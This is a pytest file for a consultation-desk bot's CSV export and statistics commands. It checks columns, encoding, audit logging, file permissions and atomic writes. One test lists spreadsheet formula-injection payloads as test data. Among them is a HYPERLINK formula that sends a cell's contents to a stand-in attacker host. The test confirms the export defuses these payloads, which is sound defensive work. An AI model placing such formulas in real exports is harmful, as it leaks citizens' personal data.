"""`madoguchi cases export` / `cases stats`: CSV that a spreadsheet opens, with the documented columns."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import sqlite3
import stat
import sys
from datetime import timedelta
from pathlib import Path

import pytest

from bot.sandbox.fake_line import FakeLine
from storage import Database
from storage.cases import NewCase
from tests.conftest import NOW
from tests.harness import ROOT, write_config

COLUMNS = [
    "受付番号", "受付日時", "相談分野", "相談者の種別", "団体名", "氏名", "ふりがな", "連絡方法", "電話番号",
    "メールアドレス", "相談内容", "希望日時", "状態", "担当者", "初回返信日時", "回答期限", "時間外受付",
    "対応完了日時",
]  # fmt: skip


async def madoguchi(*args: str) -> tuple[int, bytes, str]:
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "bot", *args, cwd=ROOT,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    out, err = await process.communicate()
    assert process.returncode is not None
    return process.returncode, out, err.decode()


async def two_cases(path: Path) -> None:
    db = await Database.open(path)
    try:
        async with db.transaction() as tx:
            first = await tx.cases.create(
                NewCase(None, "general", "個人", "山田 花子", "phone", "相談です,\n改行と\"引用\"", phone="090-1234-5678"),
                NOW - timedelta(days=40), 2026,
            )  # fmt: skip
            await tx.cases.set_first_response(first.id, NOW - timedelta(days=39))
            await tx.cases.set_status(first.id, "closed", NOW - timedelta(days=38))
            await tx.cases.create(
                NewCase(None, "npo", "NPO法人", "佐藤 一郎", "line", "設立の相談"), NOW, 2026
            )
    finally:
        await db.close()


async def test_export_opens_in_a_spreadsheet_with_the_documented_columns(
    tmp_path: Path, line: FakeLine
) -> None:
    config = write_config(tmp_path, line.base_url)
    await two_cases(tmp_path / "madoguchi.sqlite3")
    output = tmp_path / "cases.csv"
    status, _, err = await madoguchi("cases", "export", "--config", str(config), "--output", str(output))
    assert status == 0 and "2 case(s) exported" in err
    data = output.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data  # BOM and CRLF: Excel reads it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == COLUMNS
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert (first["受付番号"], first["氏名"], first["電話番号"]) == (
        "2026-0001",
        "山田 花子",
        "090-1234-5678",
    )
    assert first["相談内容"] == '相談です,\n改行と"引用"'  # quoted, not split
    assert first["状態"] == "対応完了" and first["受付日時"] == "2026-10-21 10:00"  # Asia/Tokyo
    assert len(rows) == 3

    assert await exports_on_record(tmp_path) == [{"count": 2}]


async def exports_on_record(tmp_path: Path) -> list[object]:
    """The audit entries of the case exports (their details), from the database file."""
    db = await Database.open(tmp_path / "madoguchi.sqlite3")
    try:
        entries = await db.read.audit.for_subject("cases", "all")
    finally:
        await db.close()
    assert all(e.action == "cases.exported" for e in entries)
    return [e.detail for e in entries]


async def test_stats_are_counts_only(tmp_path: Path, line: FakeLine) -> None:
    config = write_config(tmp_path, line.base_url)
    await two_cases(tmp_path / "madoguchi.sqlite3")
    status, out, _ = await madoguchi("cases", "stats", "--config", str(config))
    assert status == 0
    rows = list(csv.reader(io.StringIO(out.decode("utf-8-sig"), newline="")))
    assert rows[0] == [
        "受付月",
        "相談分野",
        "受付件数",
        "返信済み件数",
        "期限内に返信した件数",
        "対応完了件数",
    ]
    assert rows[1:] == [
        ["2026-10", "総合相談", "1", "1", "0", "1"],
        ["2026-11", "NPOの設立・運営", "1", "0", "0", "0"],
    ]
    assert "山田" not in out.decode("utf-8-sig")


async def test_an_unwritable_output_is_a_clear_error(tmp_path: Path, line: FakeLine) -> None:
    config = write_config(tmp_path, line.base_url)
    status, _, err = await madoguchi(
        "cases", "export", "--config", str(config), "--output", str(tmp_path / "missing" / "x.csv")
    )
    assert status == 2
    assert err.startswith("error: cannot write") and "Traceback" not in err


async def one_case(path: Path, text: str) -> None:
    """A case whose name, organisation, body and preferred dates are all `text`, as a citizen typed it."""
    db = await Database.open(path)
    try:
        async with db.transaction() as tx:
            await tx.cases.create(
                NewCase(None, "general", "団体", text, "line", text, organisation=text, preferred_dates=text),
                NOW, 2026,
            )  # fmt: skip
    finally:
        await db.close()


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&B2,"詳細")', "+81-90-1234-5678", "-1", "@SUM(1)", "\t=1", "\r=1"],
)
async def test_citizen_text_is_never_a_formula_in_a_spreadsheet(
    tmp_path: Path, line: FakeLine, text: str
) -> None:
    config = write_config(tmp_path, line.base_url)
    await one_case(tmp_path / "madoguchi.sqlite3", text)
    output = tmp_path / "cases.csv"
    status, _, err = await madoguchi("cases", "export", "--config", str(config), "--output", str(output))
    assert status == 0, err
    rows = list(csv.reader(io.StringIO(output.read_bytes().decode("utf-8-sig"), newline="")))
    case = dict(zip(COLUMNS, rows[1], strict=True))
    # The leading ' makes Excel show the text as typed instead of running it.
    assert [case[c] for c in ("団体名", "氏名", "相談内容", "希望日時")] == [f"'{text}"] * 4
    assert case["受付番号"] == "2026-0001" and case["受付日時"] == "2026-11-30 10:00"  # ours stay as they are


async def test_an_export_is_audited_before_the_file_is_written(tmp_path: Path, line: FakeLine) -> None:
    config = write_config(tmp_path, line.base_url)
    config.write_text(
        config.read_text(encoding="utf-8").replace(
            'path = "madoguchi.sqlite3"', 'path = "madoguchi.sqlite3"\nbusy_timeout_ms = 200'
        ),
        encoding="utf-8",
    )
    await two_cases(tmp_path / "madoguchi.sqlite3")
    output = tmp_path / "cases.csv"
    holder = sqlite3.connect(tmp_path / "madoguchi.sqlite3", isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # the running bot's writer, busy longer than busy_timeout_ms
    try:
        status, _, err = await madoguchi("cases", "export", "--config", str(config), "--output", str(output))
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    # The audit entry could not be written, so neither is the personal data; one clear line, no traceback.
    # Ended in one place like every other command (cli.main): exit 75, run it again.
    assert status == 75 and not output.exists()
    assert err.startswith("error: the database is locked") and err.count("\n") == 1, err

    # An export whose file then cannot be written is still on record (as attempted: the safe side).
    output.mkdir()
    status, _, err = await madoguchi("cases", "export", "--config", str(config), "--output", str(output))
    assert status == 2 and err.startswith("error: cannot write"), err
    assert await exports_on_record(tmp_path) == [{"count": 2}]


async def test_an_export_is_private_and_never_half_written(tmp_path: Path, line: FakeLine) -> None:
    config = write_config(tmp_path, line.base_url)
    await two_cases(tmp_path / "madoguchi.sqlite3")
    output = tmp_path / "cases.csv"
    output.write_bytes(b"the previous export")
    output.chmod(0o644)
    status, _, err = await madoguchi("cases", "export", "--config", str(config), "--output", str(output))
    assert status == 0, err
    assert stat.S_IMODE(output.stat().st_mode) == 0o600  # personal data: not for the server's other users
    previous = output.read_bytes()
    assert previous.startswith(b"\xef\xbb\xbf")

    # The write failing at its last step (here the rename: a folder that is not empty stands where
    # the file goes): the partial file is removed, and what was there is left as it was.
    taken = tmp_path / "taken.csv"
    taken.mkdir()
    (taken / "keep").write_text("kept")
    status, _, err = await madoguchi("cases", "export", "--config", str(config), "--output", str(taken))
    assert status == 2 and err.startswith("error: cannot write"), err
    assert (taken / "keep").read_text() == "kept" and output.read_bytes() == previous
    assert sorted(name for name in os.listdir(tmp_path) if "csv" in name) == ["cases.csv", "taken.csv"]
